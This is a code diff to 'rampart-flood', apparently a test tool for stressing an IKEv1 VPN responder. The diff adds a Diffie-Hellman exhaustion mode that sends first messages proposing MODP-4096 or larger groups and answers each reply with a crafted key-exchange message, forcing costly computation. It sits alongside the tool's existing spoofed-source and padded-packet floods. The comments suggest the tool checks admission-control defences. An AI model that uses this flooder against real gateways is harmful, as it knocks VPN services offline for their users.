@@ -8,6 +8,9 @@
  * or nowhere: answers are not read); --also ADDR:PCT sends that share from ADDR instead (the
  * address of a NAT legitimate clients are behind). Prints one line at the end:
  *   flood sent=N seconds=S rate_pps=R errors=E
+ * --dh-rate R adds R first messages a second from our own (real) address proposing --dh-group
+ * (MODP-4096 by default), and answers every MM2 with an MM3 whose KE makes the responder do the
+ * whole DH (the review's "DH cost before proof"; admission control's DH budget is what stops it).
  * --padded N instead sends N first messages over an ordinary UDP socket (the kernel fragments them)
  * whose SA payload is padded by a junk second transform to PAD bytes (--pad, default 60000), as
  * the review did; for the memory figures.
@@ -73,11 +76,11 @@ static uint64_t now_ns(void)
 static const uint8_t vid_rfc3947[16] = {0x4a, 0x13, 0x1c, 0x81, 0x07, 0x03, 0x58, 0x45,
                                         0x5c, 0x57, 0x28, 0xf2, 0x0e, 0x95, 0x45, 0x2f};
 
-/* An MM1: header, SA (one proposal: AES-128/SHA1/PSK/ECP-256, 28800 s [, a junk transform of
+/* An MM1: header, SA (one proposal: AES-128/SHA1/PSK/group, 28800 s [, a junk transform of
  * pad bytes]), the NAT-T VID. Returns its length. */
-static size_t build_mm1(uint8_t *b, size_t pad)
+static size_t build_mm1(uint8_t *b, size_t pad, uint16_t group)
 {
-	static const uint16_t attrs[][2] = {{1, 7}, {14, 128}, {2, 2}, {3, 1}, {4, 19}, {11, 1}, {12, 28800}};
+	uint16_t attrs[][2] = {{1, 7}, {14, 128}, {2, 2}, {3, 1}, {4, group}, {11, 1}, {12, 28800}};
 	uint8_t *p = b + 28;
 	uint8_t *sa = p;
 	p += 4;
@@ -155,6 +158,30 @@ static size_t build_mm3(uint8_t *b)
 	return (size_t)(p - b);
 }
 
+/* A real-looking MM3 for cookies we were given (MM2 came back): KE of kel random bytes (a MODP
+ * value below the prime with near certainty: the responder does the whole DH), a nonce. */
+static size_t build_mm3_for(uint8_t *b, const uint8_t *ck, size_t kel)
+{
+	uint8_t *p = b + 28;
+	p[0] = 10; /* next: nonce */
+	put16(p + 2, (unsigned)(4 + kel));
+	rfill(p + 4, kel);
+	p[4] = 0x7f; /* below every MODP prime (they start with 64 one bits) */
+	p += 4 + kel;
+	p[0] = 0;
+	put16(p + 2, 4 + 32);
+	rfill(p + 4, 32);
+	p += 36;
+	memcpy(b, ck, 16);
+	b[16] = 4; /* KE */
+	b[17] = 0x10;
+	b[18] = 2;
+	b[19] = 0;
+	put32(b + 20, 0);
+	put32(b + 24, (uint32_t)(p - b));
+	return (size_t)(p - b);
+}
+
 static uint16_t ipsum(const uint8_t *h)
 {
 	uint32_t s = 0;
@@ -194,6 +221,7 @@ static int usage(void)
 {
 	fprintf(stderr, "usage: rampart-flood --dst A.B.C.D [--rate PPS] [--seconds S] [--spoof NET/PLEN] "
 	                "[--also A.B.C.D:PCT] [--mix mm1=50,mm3=20,j500=5,j4500=10,j1701=5,esp=10]\n"
+	                "       [--dh-rate R [--dh-group 14|15|16]]\n"
 	                "       rampart-flood --dst A.B.C.D --padded N [--pad BYTES] [--interval-us U]\n");
 	return 2;
 }
@@ -205,7 +233,7 @@ int main(int argc, char **argv)
 	double seconds = 10;
 	unsigned w[K_N] = {50, 20, 5, 10, 5, 10};
 	struct in_addr also = {0};
-	unsigned also_pct = 0;
+	unsigned also_pct = 0, dh_rate = 0, dh_group = 16;
 	inet_pton(AF_INET, "198.19.128.0", &net);
 	for (int i = 1; i < argc; i++) {
 		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
@@ -233,7 +261,11 @@ int main(int argc, char **argv)
 			also_pct = (unsigned)atoi(c + 1);
 			if (inet_pton(AF_INET, b, &also) != 1 || also_pct > 100)
 				return usage();
-		} else if (!strcmp(a, "--interval-us"))
+		} else if (!strcmp(a, "--dh-rate"))
+			dh_rate = (unsigned)strtoul(v, NULL, 10);
+		else if (!strcmp(a, "--dh-group"))
+			dh_group = (unsigned)strtoul(v, NULL, 10);
+		else if (!strcmp(a, "--interval-us"))
 			ivl_us = (unsigned)strtoul(v, NULL, 10);
 		else if (!strcmp(a, "--spoof")) {
 			char b[64];
@@ -276,13 +308,13 @@ int main(int argc, char **argv)
 		int rcv = 1 << 20;
 		setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &rcv, sizeof rcv);
 		for (unsigned i = 0; i < padded; i++) {
-			size_t l = build_mm1(pkt, pad);
+			size_t l = build_mm1(pkt, pad, 19);
 			if (sendto(fd, pkt, l, 0, (struct sockaddr *)&sa, sizeof sa) == (ssize_t)l)
 				sent++;
 			if (ivl_us)
 				usleep(ivl_us);
 		}
-		printf("flood padded sent=%u bytes_each=%zu\n", sent, build_mm1(pkt, pad));
+		printf("flood padded sent=%u bytes_each=%zu\n", sent, build_mm1(pkt, pad, 19));
 		return sent ? 0 : 1;
 	}
 
@@ -303,6 +335,16 @@ int main(int argc, char **argv)
 	uint64_t t0 = now_ns(), end = t0 + (uint64_t)(seconds * 1e9), sent = 0, errors = 0;
 	uint64_t per = 1000000000ull / rate;
 	uint64_t next = t0;
+	/* the DH flood: first messages from our own address, and an MM3 for every MM2 that comes back */
+	int dfd = -1;
+	uint64_t dh_per = 0, dh_next = t0, dh_mm1 = 0, dh_mm3 = 0;
+	size_t kel = dh_group == 14 ? 256 : dh_group == 15 ? 384 : 512;
+	struct sockaddr_in d500 = {.sin_family = AF_INET, .sin_port = htons(500), .sin_addr = dst};
+	if (dh_rate) {
+		dfd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+		dh_per = 1000000000ull / dh_rate;
+	}
+	static uint8_t dpkt[2048];
 	struct sigaction sa = {.sa_handler = on_sig};
 	sigaction(SIGINT, &sa, NULL);
 	sigaction(SIGTERM, &sa, NULL);
@@ -310,6 +352,26 @@ int main(int argc, char **argv)
 		uint64_t t = now_ns();
 		if (t >= end)
 			break;
+		if (dfd >= 0) {
+			ssize_t r;
+			while ((r = recv(dfd, dpkt, sizeof dpkt, 0)) >= 28)
+				if (dpkt[18] == 2 && dpkt[16] == 1) { /* MM2 (SA first): answer with MM3 */
+					uint8_t ck[16];
+					memcpy(ck, dpkt, 16);
+					size_t l3 = build_mm3_for(dpkt, ck, kel);
+					if (sendto(dfd, dpkt, l3, 0, (struct sockaddr *)&d500, sizeof d500) >
+					    0)
+						dh_mm3++;
+				}
+			if (t >= dh_next) {
+				size_t l1 = build_mm1(dpkt, 0, (uint16_t)dh_group);
+				if (sendto(dfd, dpkt, l1, 0, (struct sockaddr *)&d500, sizeof d500) > 0)
+					dh_mm1++;
+				dh_next += dh_per;
+				if (t - dh_next > 50000000ull && t > dh_next)
+					dh_next = t;
+			}
+		}
 		if (t < next) {
 			uint64_t gap = next - t;
 			if (gap > 200000) {
@@ -331,7 +393,7 @@ int main(int argc, char **argv)
 		size_t l = 0, n;
 		switch (k) {
 		case K_MM1:
-			n = build_mm1(pkt + 28, 0);
+			n = build_mm1(pkt + 28, 0, 19);
 			l = wrap(pkt, src, d, 17, rnd() & 1 ? 500 : sport, 500, n);
 			break;
 		case K_MM3:
@@ -369,7 +431,8 @@ int main(int argc, char **argv)
 		next += per;
 	}
 	double el = (double)(now_ns() - t0) / 1e9;
-	printf("flood sent=%llu seconds=%.1f rate_pps=%.0f errors=%llu\n", (unsigned long long)sent, el,
-	       el > 0 ? (double)sent / el : 0, (unsigned long long)errors);
+	printf("flood sent=%llu seconds=%.1f rate_pps=%.0f errors=%llu dh_mm1=%llu dh_mm3=%llu\n",
+	       (unsigned long long)sent, el, el > 0 ? (double)sent / el : 0, (unsigned long long)errors,
+	       (unsigned long long)dh_mm1, (unsigned long long)dh_mm3);
 	return 0;
 }
